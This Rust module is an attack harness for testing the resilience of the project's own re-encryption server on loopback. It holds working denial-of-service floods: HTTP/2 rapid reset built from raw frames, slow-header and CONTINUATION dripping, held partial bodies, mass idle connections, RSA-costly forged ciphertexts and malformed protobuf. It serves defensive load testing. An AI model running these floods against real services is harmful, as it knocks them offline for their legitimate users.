//! An attacker on loopback, and the legitimate client beside it: the floods
//! of issue 22 against any running reseal, each bounded in time, with what
//! the server answered counted. The attack tests (`tests/attack.rs`, against
//! the real binary) and the soak (`reseal-bench attack`, `scripts/soak.sh`)
//! run this same code.
//!
//! Floods ([`Flood`]):
//! * `streams`: HTTP/2 connections opening streams (HEADERS) and resetting
//!   them (RST_STREAM) as fast as the server lets them;
//! * `partial-bodies`: streams that send part of a request body and stop;
//! * `rapid-reset`: raw HEADERS+RST_STREAM pairs written without waiting for
//!   anything, ignoring the stream limit (CVE-2023-44487);
//! * `idle-preface`: connections that send the HTTP/2 preface and nothing more;
//! * `slow-headers`: connections that drip a request's headers a byte at a
//!   time (HTTP/2 on the gRPC port; HTTP/1.1 on the HTTP/JSON port if given);
//! * `edk16`: messages with 16 EDKs that all name a configured source key, none
//!   of which opens (each would be an RSA private-key operation);
//! * `tampered`: well-formed messages with a flipped bit (a log flood);
//! * `malformed-proto`: request bodies that are not valid protobuf;
//! * `base64-raw`: base64 text in the raw `ciphertext` field.

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use bytes::Bytes;
use reseal::esdk::{self, AlgorithmSuite, EncryptionContext, EncryptionMaterials};
use reseal::grpc::proto::reencrypt_request::Input;
use reseal::grpc::proto::reencrypt_service_client::ReencryptServiceClient;
use reseal::grpc::proto::ReencryptRequest;
use reseal::keys::{raw_rsa, RawRsaKeyring, RsaPadding};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tonic::transport::Channel;

/// The floods.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum, serde::Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Flood {
    Streams,
    PartialBodies,
    RapidReset,
    IdlePreface,
    SlowHeaders,
    Edk16,
    Tampered,
    MalformedProto,
    Base64Raw,
}

impl Flood {
    pub const ALL: [Flood; 9] = [
        Flood::Streams,
        Flood::PartialBodies,
        Flood::RapidReset,
        Flood::IdlePreface,
        Flood::SlowHeaders,
        Flood::Edk16,
        Flood::Tampered,
        Flood::MalformedProto,
        Flood::Base64Raw,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Flood::Streams => "streams",
            Flood::PartialBodies => "partial-bodies",
            Flood::RapidReset => "rapid-reset",
            Flood::IdlePreface => "idle-preface",
            Flood::SlowHeaders => "slow-headers",
            Flood::Edk16 => "edk16",
            Flood::Tampered => "tampered",
            Flood::MalformedProto => "malformed-proto",
            Flood::Base64Raw => "base64-raw",
        }
    }

    /// The connections the version of the flood used.
    pub fn default_connections(self) -> usize {
        match self {
            Flood::Streams => 4,
            Flood::PartialBodies => 2,
            Flood::RapidReset => 4,
            Flood::IdlePreface => 2000,
            Flood::SlowHeaders => 1000,
            Flood::Edk16 => 32,
            Flood::Tampered => 8,
            Flood::MalformedProto => 4,
            Flood::Base64Raw => 4,
        }
    }
}

/// Where the server listens, and what the attacker knows of it (public: a
/// Connect key id is in every ciphertext).
#[derive(Debug, Clone)]
pub struct Target {
    pub grpc: SocketAddr,
    /// The HTTP/JSON door, for the HTTP/1.1 variants.
    pub http: Option<SocketAddr>,
    /// A route (or consumer) the attacker's calls name.
    pub route: String,
    /// The provider id and key name of a configured source key.
    pub provider_id: String,
    pub key_name: String,
    /// The public key of that source (what Connect encrypts with), for
    /// well-formed messages the server opens (`tampered` flips a bit in them).
    pub public_key_pem: Option<String>,
}

/// How hard and how long.
#[derive(Debug, Clone)]
pub struct FloodOptions {
    pub connections: usize,
    /// Calls in flight per connection (the gRPC floods).
    pub in_flight: usize,
    /// Streams each connection opens in all (`streams`, `partial-bodies`).
    pub streams_per_connection: usize,
    /// The message length `partial-bodies` declares; it sends all but 1 kB.
    pub body_bytes: usize,
    pub duration: Duration,
}

impl FloodOptions {
    pub fn for_flood(flood: Flood, duration: Duration) -> Self {
        FloodOptions {
            connections: flood.default_connections(),
            in_flight: 2,
            streams_per_connection: match flood {
                Flood::PartialBodies => 10_000,
                _ => 50_000,
            },
            body_bytes: 100_000,
            duration,
        }
    }
}

/// What the attacker saw.
#[derive(Debug, Clone, Default, serde::Serialize)]
pub struct FloodReport {
    pub flood: String,
    /// Requests (or streams, or connections) sent.
    pub sent: u64,
    /// Answers by gRPC reason (or `code:N` without one, `closed`, `goaway`...).
    pub answers: BTreeMap<String, u64>,
    /// Connections the server closed (or refused) while the flood ran.
    pub closed_by_server: u64,
    /// Connections still open when the flood's time was up.
    pub still_open: u64,
    pub seconds: f64,
}

#[derive(Default)]
struct Tally {
    sent: AtomicU64,
    closed: AtomicU64,
    open_at_end: AtomicU64,
    answers: Mutex<BTreeMap<String, u64>>,
}

impl Tally {
    fn answer(&self, what: impl Into<String>) {
        *self
            .answers
            .lock()
            .unwrap_or_else(|e| e.into_inner())
            .entry(what.into())
            .or_insert(0) += 1;
    }

    fn report(&self, flood: Flood, started: Instant) -> FloodReport {
        FloodReport {
            flood: flood.name().into(),
            sent: self.sent.load(Ordering::Relaxed),
            answers: self
                .answers
                .lock()
                .unwrap_or_else(|e| e.into_inner())
                .clone(),
            closed_by_server: self.closed.load(Ordering::Relaxed),
            still_open: self.open_at_end.load(Ordering::Relaxed),
            seconds: started.elapsed().as_secs_f64(),
        }
    }
}

type BoxError = Box<dyn std::error::Error + Send + Sync>;

/// Runs one flood for its duration and reports what came back.
pub async fn run(flood: Flood, target: &Target, o: &FloodOptions) -> Result<FloodReport, BoxError> {
    let tally = Arc::new(Tally::default());
    let started = Instant::now();
    let until = started + o.duration;
    let mut tasks = tokio::task::JoinSet::new();
    match flood {
        Flood::Streams | Flood::PartialBodies => {
            for _ in 0..o.connections {
                let (t, tally, o) = (target.clone(), tally.clone(), o.clone());
                tasks.spawn(async move {
                    if flood == Flood::PartialBodies {
                        let _ =
                            h2_streams(&t, &o, true, o.streams_per_connection, until, &tally).await;
                        return;
                    }
                    // An attacker whose connection is cut opens another, until
                    // its streams are spent or its time is up.
                    let mut left = o.streams_per_connection;
                    while left > 0 && Instant::now() < until {
                        match h2_streams(&t, &o, false, left, until, &tally).await {
                            Ok(0) | Err(_) => tokio::time::sleep(Duration::from_millis(10)).await,
                            Ok(n) => left = left.saturating_sub(n),
                        }
                    }
                });
            }
        }
        Flood::RapidReset => {
            for _ in 0..o.connections {
                let (t, tally) = (target.clone(), tally.clone());
                tasks.spawn(async move { rapid_reset(&t, until, &tally).await });
            }
        }
        Flood::IdlePreface | Flood::SlowHeaders => {
            let held = Arc::new(Mutex::new(Vec::new()));
            for i in 0..o.connections {
                let (t, tally, held) = (target.clone(), tally.clone(), held.clone());
                let http1 = flood == Flood::SlowHeaders && t.http.is_some() && i % 2 == 1;
                tasks.spawn(async move {
                    let opened = if flood == Flood::IdlePreface {
                        idle_preface(&t, until, &tally).await
                    } else {
                        slow_headers(&t, http1, until, &tally).await
                    };
                    if let Some(s) = opened {
                        held.lock().unwrap_or_else(|e| e.into_inner()).push(s);
                    }
                });
                // Connect in a steady stream, not all at once.
                if i % 50 == 49 {
                    tokio::time::sleep(Duration::from_millis(5)).await;
                }
            }
            while tasks.join_next().await.is_some() {}
            return Ok(tally.report(flood, started));
        }
        Flood::Edk16 | Flood::Tampered | Flood::Base64Raw => {
            let input = match flood {
                Flood::Edk16 => edk_flood_message(target, 16)?,
                Flood::Tampered => tampered_message(target)?,
                _ => base64_in_raw(target)?,
            };
            let request = ReencryptRequest {
                input: Some(Input::Ciphertext(input)),
                route: target.route.clone(),
                ..Default::default()
            };
            for _ in 0..o.connections {
                let channel = Channel::from_shared(format!("http://{}", target.grpc))?
                    .connect()
                    .await?;
                for _ in 0..o.in_flight.max(1) {
                    let (mut client, tally, request) = (
                        ReencryptServiceClient::new(channel.clone()),
                        tally.clone(),
                        request.clone(),
                    );
                    tasks.spawn(async move {
                        while Instant::now() < until {
                            tally.sent.fetch_add(1, Ordering::Relaxed);
                            match client.reencrypt(request.clone()).await {
                                Ok(_) => tally.answer("OK"),
                                Err(s) => tally.answer(reason_of(&s)),
                            }
                        }
                    });
                }
            }
        }
        Flood::MalformedProto => {
            for _ in 0..o.connections {
                let (t, tally) = (target.clone(), tally.clone());
                tasks.spawn(async move {
                    let _ = malformed_proto(&t, until, &tally).await;
                });
            }
        }
    }
    let grace = until + Duration::from_secs(5);
    while let Ok(Some(_)) = tokio::time::timeout_at(grace.into(), tasks.join_next()).await {}
    tasks.abort_all();
    Ok(tally.report(flood, started))
}

/// The ErrorInfo reason of a status, or its code.
pub fn reason_of(status: &tonic::Status) -> String {
    use tonic_types::StatusExt;
    match status.get_error_details().error_info() {
        Some(i) => i.reason.clone(),
        None => format!("code:{:?}", status.code()),
    }
}

fn grpc_request(target: &Target, path: &str) -> http::Request<()> {
    http::Request::builder()
        .method("POST")
        .uri(format!("http://{}{path}", target.grpc))
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .body(())
        .unwrap_or_default()
}

const REENCRYPT: &str = "/reseal.v1.ReencryptService/Reencrypt";

/// One HTTP/2 connection opening up to `streams` streams: HEADERS then
/// RST_STREAM, or HEADERS and part of a body, held until the end. Returns how
/// many it opened.
async fn h2_streams(
    target: &Target,
    o: &FloodOptions,
    partial: bool,
    streams: usize,
    until: Instant,
    tally: &Arc<Tally>,
) -> Result<usize, BoxError> {
    let tcp = TcpStream::connect(target.grpc).await?;
    let (client, conn) = h2::client::Builder::new()
        .initial_window_size(1 << 20)
        .handshake::<_, Bytes>(tcp)
        .await?;
    let closed = Arc::new(AtomicBool::new(false));
    {
        let closed = closed.clone();
        tokio::spawn(async move {
            let _ = conn.await;
            closed.store(true, Ordering::SeqCst);
        });
    }
    let mut held = Vec::new();
    let mut client = client;
    // Streams open at once: as many as the server allows (the client would
    // queue the rest, and its queue costs the attacker, not the server).
    let open = Arc::new(tokio::sync::Semaphore::new(
        client.current_max_send_streams().clamp(1, 1024),
    ));
    let mut opened = 0;
    for _ in 0..streams {
        if Instant::now() >= until || closed.load(Ordering::SeqCst) {
            break;
        }
        let permit = match tokio::time::timeout_at(until.into(), open.clone().acquire_owned()).await
        {
            Ok(Ok(p)) => p,
            _ => break,
        };
        client = match tokio::time::timeout_at(until.into(), client.ready()).await {
            Ok(Ok(c)) => c,
            Ok(Err(_)) => {
                tally.answer("goaway");
                break;
            }
            Err(_) => break,
        };
        let (response, mut stream) =
            match client.send_request(grpc_request(target, REENCRYPT), false) {
                Ok(r) => r,
                Err(_) => break,
            };
        tally.sent.fetch_add(1, Ordering::Relaxed);
        opened += 1;
        if partial {
            // The 5-byte prefix of the message, and all of it but 1 kB.
            let declared = o.body_bytes.max(1025);
            let mut body = vec![0u8];
            body.extend_from_slice(&(declared as u32).to_be_bytes());
            body.extend(std::iter::repeat_n(0x0a, declared - 1024));
            let _ = stream.send_data(Bytes::from(body), false);
            held.push(stream);
            // Answers to held streams (refusals) are counted as they come.
            let tally = tally.clone();
            tokio::spawn(async move {
                let _permit = permit;
                match response.await {
                    Ok(resp) => tally.answer(grpc_reason_of_headers(resp.headers())),
                    Err(e) => tally.answer(match e.reason() {
                        Some(r) => format!("reset:{r:?}"),
                        None => "reset".into(),
                    }),
                }
            });
        } else {
            stream.send_reset(h2::Reason::CANCEL);
            drop(response);
            drop(permit);
        }
    }
    if partial {
        tokio::time::sleep_until(until.into()).await;
    }
    if closed.load(Ordering::SeqCst) {
        tally.closed.fetch_add(1, Ordering::Relaxed);
    } else {
        tally.open_at_end.fetch_add(1, Ordering::Relaxed);
    }
    drop(held);
    Ok(opened)
}

/// The reseal reason in a trailers-only answer's headers (or its grpc-status).
fn grpc_reason_of_headers(h: &http::HeaderMap) -> String {
    let status = h
        .get("grpc-status")
        .and_then(|v| v.to_str().ok())
        .unwrap_or("-")
        .to_owned();
    if let Some(details) = h.get("grpc-status-details-bin") {
        use base64::Engine as _;
        let raw = base64::engine::general_purpose::STANDARD_NO_PAD
            .decode(
                details
                    .as_bytes()
                    .strip_suffix(b"=")
                    .unwrap_or(details.as_bytes()),
            )
            .or_else(|_| base64::engine::general_purpose::STANDARD.decode(details.as_bytes()))
            .unwrap_or_default();
        let text = String::from_utf8_lossy(&raw);
        for reason in reseal::broker::Reason::ALL {
            if text.contains(reason.as_str()) {
                return reason.as_str().to_owned();
            }
        }
    }
    format!("code:{status}")
}

/// The client preface and an empty SETTINGS frame.
fn preface() -> Vec<u8> {
    let mut v = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    v.extend(frame(0x4, 0, 0, &[]));
    v
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len();
    let mut f = vec![(len >> 16) as u8, (len >> 8) as u8, len as u8, kind, flags];
    f.extend_from_slice(&stream.to_be_bytes());
    f.extend_from_slice(payload);
    f
}

/// A HEADERS block for POST Reencrypt (HPACK: static-table indices and
/// literals without indexing).
fn headers_block(authority: &str) -> Vec<u8> {
    let mut b = vec![0x83, 0x86]; // :method POST, :scheme http
    let lit = |b: &mut Vec<u8>, index: u8, value: &[u8]| {
        b.push(index); // literal without indexing, indexed name (4-bit prefix < 15)
        b.push(value.len() as u8);
        b.extend_from_slice(value);
    };
    // :path (4), :authority (1): 4-bit-prefix literal names.
    lit(&mut b, 0x04, REENCRYPT.as_bytes());
    lit(&mut b, 0x01, authority.as_bytes());
    // content-type (31) needs the multi-byte prefix: 0x0f 0x10.
    b.extend_from_slice(&[0x0f, 0x10]);
    b.push(16);
    b.extend_from_slice(b"application/grpc");
    b
}

/// Raw HEADERS+RST_STREAM pairs, written in bulk; reconnects when the server
/// closes (GOAWAY ENHANCE_YOUR_CALM) until the time is up.
async fn rapid_reset(target: &Target, until: Instant, tally: &Tally) {
    let block = headers_block(&target.grpc.to_string());
    while Instant::now() < until {
        let Ok(mut tcp) = TcpStream::connect(target.grpc).await else {
            tokio::time::sleep(Duration::from_millis(10)).await;
            continue;
        };
        let mut out = preface();
        let mut id = 1u32;
        let (mut rd, mut wr) = tcp.split();
        let reader = async {
            let mut buf = vec![0u8; 64 * 1024];
            let mut goaway = false;
            loop {
                match rd.read(&mut buf).await {
                    Ok(0) | Err(_) => break,
                    Ok(n) => {
                        // A GOAWAY frame header: type 0x7 at offset 3.
                        if buf[..n].windows(4).any(|w| w[0] == 0 && w[3] == 0x7) {
                            goaway = true;
                        }
                    }
                }
            }
            goaway
        };
        let writer = async {
            while Instant::now() < until && id < (1 << 30) {
                for _ in 0..100 {
                    out.extend(frame(0x1, 0x4, id, &block));
                    out.extend(frame(0x3, 0, id, &8u32.to_be_bytes()));
                    id += 2;
                }
                tally.sent.fetch_add(100, Ordering::Relaxed);
                if wr.write_all(&out).await.is_err() {
                    break;
                }
                out.clear();
                tokio::task::yield_now().await;
            }
        };
        let goaway = tokio::select! {
            g = reader => g,
            _ = writer => false,
        };
        tally.answer(if goaway { "goaway" } else { "closed" });
        if Instant::now() < until {
            tally.closed.fetch_add(1, Ordering::Relaxed);
        }
    }
}

/// Reads until the server closes the connection or the time is up; true if
/// it closed it.
async fn wait_closed(tcp: &mut TcpStream, until: Instant) -> bool {
    let mut buf = [0u8; 4096];
    loop {
        match tokio::time::timeout_at(until.into(), tcp.read(&mut buf)).await {
            Ok(Ok(0)) | Ok(Err(_)) => return true,
            Ok(Ok(_)) => continue,
            Err(_) => return false,
        }
    }
}

/// The preface and nothing more; how long until the server hangs up.
async fn idle_preface(target: &Target, until: Instant, tally: &Tally) -> Option<TcpStream> {
    let mut tcp = TcpStream::connect(target.grpc).await.ok()?;
    tally.sent.fetch_add(1, Ordering::Relaxed);
    if tcp.write_all(&preface()).await.is_err() {
        tally.closed.fetch_add(1, Ordering::Relaxed);
        return None;
    }
    if wait_closed(&mut tcp, until).await {
        tally.closed.fetch_add(1, Ordering::Relaxed);
        None
    } else {
        tally.open_at_end.fetch_add(1, Ordering::Relaxed);
        Some(tcp)
    }
}

/// A request's headers, a byte every 200 ms (HTTP/2: a HEADERS frame whose
/// payload drips; HTTP/1.1: the header lines).
async fn slow_headers(
    target: &Target,
    http1: bool,
    until: Instant,
    tally: &Tally,
) -> Option<TcpStream> {
    let addr = if http1 { target.http? } else { target.grpc };
    let mut tcp = TcpStream::connect(addr).await.ok()?;
    tally.sent.fetch_add(1, Ordering::Relaxed);
    let (head, drip): (Vec<u8>, Vec<u8>) = if http1 {
        (
            b"POST /v1/reencrypt HTTP/1.1\r\nHost: x\r\n".to_vec(),
            b"X-Slow: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa".to_vec(),
        )
    } else {
        let block = headers_block(&addr.to_string());
        let mut head = preface();
        // HEADERS without END_HEADERS, then CONTINUATION that drips.
        head.extend(frame(0x1, 0x0, 1, &block));
        let filler = vec![0x40u8; 4096];
        let mut cont = frame(0x9, 0x0, 1, &filler);
        cont.truncate(9 + 4096);
        (head, cont)
    };
    if tcp.write_all(&head).await.is_err() {
        tally.closed.fetch_add(1, Ordering::Relaxed);
        return None;
    }
    let mut closed = false;
    let mut buf = [0u8; 1024];
    for b in drip.iter().cycle() {
        if Instant::now() >= until {
            break;
        }
        if tcp.write_all(std::slice::from_ref(b)).await.is_err() {
            closed = true;
            break;
        }
        match tokio::time::timeout(Duration::from_millis(200), tcp.read(&mut buf)).await {
            Ok(Ok(0)) | Ok(Err(_)) => {
                closed = true;
                break;
            }
            _ => {}
        }
    }
    if closed {
        tally.closed.fetch_add(1, Ordering::Relaxed);
        None
    } else {
        tally.open_at_end.fetch_add(1, Ordering::Relaxed);
        Some(tcp)
    }
}

/// Broken protobuf bodies, one kind after another, each on its own stream.
pub fn malformed_bodies() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("bad wire type", vec![0x0f]),
        ("wire type 7", vec![0x0f, 0x01]),
        ("truncated varint", vec![0x08, 0xff]),
        (
            "varint too long",
            vec![
                0x08, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x01,
            ],
        ),
        ("length past end", vec![0x0a, 0x7f, 0x01]),
        ("huge length", vec![0x0a, 0xff, 0xff, 0xff, 0xff, 0x0f]),
        ("string not utf-8", vec![0x2a, 0x02, 0xff, 0xfe]),
        ("field number 0", vec![0x00, 0x01]),
        ("end group without start", vec![0x0c]),
        ("start group unterminated", vec![0x0b]),
        ("map entry truncated", vec![0x3a, 0x05, 0x0a, 0x03, b'a']),
        ("fixed64 truncated", vec![0x09, 0x01, 0x02]),
        ("fixed32 truncated", vec![0x0d, 0x01]),
        ("bytes field truncated", vec![0x0a, 0x10, 0x02, 0x03]),
        ("repeated string bad length", vec![0x1a, 0x80]),
        (
            "random bytes",
            vec![0xde, 0xad, 0xbe, 0xef, 0xff, 0x7f, 0x80],
        ),
    ]
}

/// Sends every broken body as a Reencrypt call; tallies the answers.
async fn malformed_proto(target: &Target, until: Instant, tally: &Tally) -> Result<(), BoxError> {
    let tcp = TcpStream::connect(target.grpc).await?;
    let (mut client, conn) = h2::client::handshake(tcp).await?;
    tokio::spawn(async move {
        let _ = conn.await;
    });
    let bodies = malformed_bodies();
    'outer: while Instant::now() < until {
        for (_, body) in &bodies {
            if Instant::now() >= until {
                break 'outer;
            }
            let answer = grpc_call_raw(&mut client, target, body).await?;
            tally.sent.fetch_add(1, Ordering::Relaxed);
            tally.answer(answer);
        }
    }
    Ok(())
}

/// One gRPC call with a raw message body; the reason it was answered with.
pub async fn grpc_call_raw(
    client: &mut h2::client::SendRequest<Bytes>,
    target: &Target,
    message: &[u8],
) -> Result<String, BoxError> {
    let ready = client.clone().ready().await?;
    *client = ready;
    let (response, mut stream) = client.send_request(grpc_request(target, REENCRYPT), false)?;
    let mut body = vec![0u8];
    body.extend_from_slice(&(message.len() as u32).to_be_bytes());
    body.extend_from_slice(message);
    stream.send_data(Bytes::from(body), true)?;
    let response = response.await?;
    let (parts, mut body) = response.into_parts();
    if parts.headers.contains_key("grpc-status") {
        return Ok(grpc_reason_of_headers(&parts.headers));
    }
    while let Some(chunk) = body.data().await {
        let chunk = chunk?;
        let _ = body.flow_control().release_capacity(chunk.len());
    }
    match body.trailers().await? {
        Some(t) => Ok(grpc_reason_of_headers(&t)),
        None => Ok("code:-".into()),
    }
}

/// A message with `n` EDKs that all name the target's source key, wrapped
/// under a key the attacker made up: each costs the server an RSA
/// private-key operation that fails.
pub fn edk_flood_message(target: &Target, n: usize) -> Result<Vec<u8>, BoxError> {
    let (_, public) = raw_rsa::generate_pem(2048)?;
    let k = RawRsaKeyring::from_public_pem(
        &target.provider_id,
        &target.key_name,
        RsaPadding::OaepSha512,
        public.as_bytes(),
    )?;
    let mut m = EncryptionMaterials::generate(
        AlgorithmSuite::Aes256GcmIv12Tag16HkdfSha384EcdsaP384,
        EncryptionContext::new(),
    )?;
    for _ in 0..n {
        m.wrap_for(&k)?;
    }
    Ok(esdk::seal(&vec![0x41; 8192], &m, 4096)?)
}

/// A well-formed message for the target's key, with one bit flipped in its
/// body: the server unwraps its data key and then refuses it.
pub fn tampered_message(target: &Target) -> Result<Vec<u8>, BoxError> {
    let mut m = match &target.public_key_pem {
        Some(pem) => {
            let k = RawRsaKeyring::from_public_pem(
                &target.provider_id,
                &target.key_name,
                RsaPadding::OaepSha512,
                pem.as_bytes(),
            )?;
            reseal::keys::connect::encrypt(&k, b"4111111111111111")?
        }
        None => edk_flood_message(target, 1)?,
    };
    let at = m.len() - 120;
    m[at] ^= 0x10;
    Ok(m)
}

/// A well-formed message as base64 text, sent in the raw field.
pub fn base64_in_raw(target: &Target) -> Result<Vec<u8>, BoxError> {
    use base64::Engine as _;
    let m = edk_flood_message(target, 1)?;
    Ok(base64::engine::general_purpose::STANDARD
        .encode(m)
        .into_bytes())
}

/// The legitimate client: its latencies and failures.
#[derive(Debug, Clone, Default, serde::Serialize)]
pub struct LegitReport {
    pub calls: u64,
    pub failures: u64,
    /// Reasons of the failures.
    pub failed_with: BTreeMap<String, u64>,
    pub p50_ms: f64,
    pub p99_ms: f64,
    pub max_ms: f64,
    pub calls_per_second: f64,
}

/// One caller calling steadily (one call at a time) over its own connection
/// for `duration`, on a thread and runtime of its own so an attacker in the
/// same process does not delay it.
pub fn legit(
    grpc: SocketAddr,
    request: ReencryptRequest,
    duration: Duration,
) -> std::thread::JoinHandle<Result<LegitReport, String>> {
    std::thread::spawn(move || {
        let rt = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .map_err(|e| e.to_string())?;
        rt.block_on(async move {
            let channel = Channel::from_shared(format!("http://{grpc}"))
                .map_err(|e| e.to_string())?
                .connect()
                .await
                .map_err(|e| e.to_string())?;
            let mut client = ReencryptServiceClient::new(channel);
            let mut hist = hdrhistogram::Histogram::<u64>::new_with_bounds(1, 60_000_000, 3)
                .map_err(|e| e.to_string())?;
            let mut report = LegitReport::default();
            let started = Instant::now();
            while started.elapsed() < duration {
                let t = Instant::now();
                let mut call = tonic::Request::new(request.clone());
                call.set_timeout(Duration::from_secs(10));
                let result = client.reencrypt(call).await;
                let us = t.elapsed().as_micros() as u64;
                let _ = hist.record(us.max(1));
                report.calls += 1;
                match result {
                    Ok(r) if r.get_ref().results.iter().all(|c| c.error.is_none()) => {}
                    Ok(_) => {
                        report.failures += 1;
                        *report.failed_with.entry("PARTIAL".into()).or_insert(0) += 1;
                    }
                    Err(s) => {
                        report.failures += 1;
                        *report.failed_with.entry(reason_of(&s)).or_insert(0) += 1;
                    }
                }
            }
            let secs = started.elapsed().as_secs_f64();
            report.p50_ms = hist.value_at_quantile(0.5) as f64 / 1000.0;
            report.p99_ms = hist.value_at_quantile(0.99) as f64 / 1000.0;
            report.max_ms = hist.max() as f64 / 1000.0;
            report.calls_per_second = report.calls as f64 / secs;
            Ok(report)
        })
    })
}

/// Samples a process's RSS every 50 ms until stopped; the peak, in bytes.
pub struct RssWatch {
    stop: Arc<AtomicBool>,
    handle: std::thread::JoinHandle<u64>,
}

impl RssWatch {
    pub fn start(pid: u32) -> Self {
        let stop = Arc::new(AtomicBool::new(false));
        let flag = stop.clone();
        let handle = std::thread::spawn(move || {
            let mut peak = 0;
            while !flag.load(Ordering::Relaxed) {
                if let Ok(s) = super::procfs::sample(pid) {
                    peak = peak.max(s.rss_bytes);
                }
                std::thread::sleep(Duration::from_millis(50));
            }
            peak
        });
        RssWatch { stop, handle }
    }

    pub fn stop(self) -> u64 {
        self.stop.store(true, Ordering::Relaxed);
        self.handle.join().unwrap_or(0)
    }
}

/// RSS of a process now, in bytes.
pub fn rss(pid: u32) -> u64 {
    super::procfs::sample(pid).map(|s| s.rss_bytes).unwrap_or(0)
}

/// One row of the "Under attack" table: the legitimate caller before and
/// during a flood, and the server's memory.
#[derive(Debug, Clone, serde::Serialize)]
pub struct Row {
    pub flood: String,
    pub before: LegitReport,
    pub during: LegitReport,
    pub attack: FloodReport,
    pub rss_idle_mb: f64,
    pub rss_peak_mb: f64,
    /// RSS `settle` after the flood ended.
    pub rss_after_mb: f64,
    pub settle_seconds: f64,
}

/// A campaign: for each flood, the legitimate caller alone, then beside the
/// flood, then the server's RSS once it had `settle` to recover.
pub struct Campaign {
    pub target: Target,
    pub legit: ReencryptRequest,
    pub floods: Vec<Flood>,
    pub duration: Duration,
    pub settle: Duration,
    pub server_pid: Option<u32>,
    pub connections: Option<usize>,
}

impl Campaign {
    pub async fn run(&self, mut each: impl FnMut(&Row)) -> Result<Vec<Row>, BoxError> {
        let mut rows = Vec::new();
        let mb = |b: u64| b as f64 / (1024.0 * 1024.0);
        for &flood in &self.floods {
            let idle = self.server_pid.map(rss).unwrap_or(0);
            let before = legit(self.target.grpc, self.legit.clone(), self.duration)
                .join()
                .map_err(|_| "the legitimate client panicked")??;
            let watch = self.server_pid.map(RssWatch::start);
            let client = legit(self.target.grpc, self.legit.clone(), self.duration);
            let mut o = FloodOptions::for_flood(flood, self.duration);
            if let Some(c) = self.connections {
                o.connections = c;
            }
            let attack = run(flood, &self.target, &o).await?;
            let during = client
                .join()
                .map_err(|_| "the legitimate client panicked")??;
            let peak = watch.map(RssWatch::stop).unwrap_or(0);
            tokio::time::sleep(self.settle).await;
            let after = self.server_pid.map(rss).unwrap_or(0);
            let row = Row {
                flood: flood.name().into(),
                before,
                during,
                attack,
                rss_idle_mb: mb(idle),
                rss_peak_mb: mb(peak),
                rss_after_mb: mb(after),
                settle_seconds: self.settle.as_secs_f64(),
            };
            each(&row);
            rows.push(row);
        }
        Ok(rows)
    }
}

/// The table row as Markdown.
pub fn markdown_row(r: &Row) -> String {
    format!(
        "| {} | {:.2} / {:.2} / {:.0} | {:.2} / {:.2} / {:.0} | {} of {} | {:.0} | {:.0} | {:.0} |",
        r.flood,
        r.before.p50_ms,
        r.before.p99_ms,
        r.before.calls_per_second,
        r.during.p50_ms,
        r.during.p99_ms,
        r.during.calls_per_second,
        r.during.failures,
        r.during.calls,
        r.rss_idle_mb,
        r.rss_peak_mb,
        r.rss_after_mb,
    )
}

pub const MARKDOWN_HEADER: &str = "| attack | legit p50 / p99 ms / calls/s before | during | legit calls failed | RSS idle MB | RSS peak MB | RSS after MB |\n|---|---|---|---|---|---|---|";
